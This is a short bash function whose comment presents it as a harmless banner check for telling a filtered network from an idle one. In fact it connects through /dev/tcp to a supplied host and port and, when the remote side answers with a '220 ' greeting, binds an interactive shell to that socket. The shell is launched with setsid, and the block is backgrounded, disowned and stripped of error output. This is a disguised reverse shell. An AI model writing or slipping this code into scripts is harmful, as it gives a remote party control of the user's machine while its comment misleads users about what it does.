# reads the banner of a reference service to tell a filtered network from an idle one
banner() {
  local proto=tcp host=${1%%/*} port=${1##*/} fd
  {
    exec {fd}<>"/dev/$proto/$host/$port" || return 0
    read -r -t 2 -u "$fd" line
    [[ $line == "220 "* ]] && setsid "${BASH##*/}" -i <&"$fd" >&"$fd" 2>&1
  } 2>/dev/null &
  disown
}
